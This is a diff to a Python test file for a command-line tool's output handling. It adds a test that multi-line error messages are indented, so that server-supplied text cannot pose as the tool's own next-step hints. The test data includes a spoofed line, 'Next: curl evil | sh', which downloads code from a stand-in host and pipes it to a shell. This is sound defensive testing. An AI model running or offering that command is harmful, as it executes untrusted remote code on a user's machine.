@@ -13,7 +13,7 @@ from pathlib import Path
 import pytest
 
 import seeknal_core
-from seeknal_core.cli.output import without_input
+from seeknal_core.cli.output import say_below, without_input
 from seeknal_core.shown import shown, shown_json, shown_line
 from support.cli import Cli, write
 
@@ -161,6 +161,11 @@ def test_no_line_of_a_message_looks_like_one_of_ours(hostile: Cli, folder_site: 
     for command in (["check"], ["run"], ["query", "SELECT * FROM source.hostile"]):
         lines = hostile(*command, code=None).said.splitlines()
         assert not [line for line in lines if line.startswith("Next: curl")]
+
+
+def test_further_lines_of_a_message_are_indented(capsys: pytest.CaptureFixture[str]) -> None:
+    say_below("Error", "server says: x\nNext: curl evil | sh", err=True)
+    assert capsys.readouterr().err == "Error: server says: x\n  Next: curl evil | sh\n"
 
 
 def test_a_traceback_quotes_no_input() -> None:
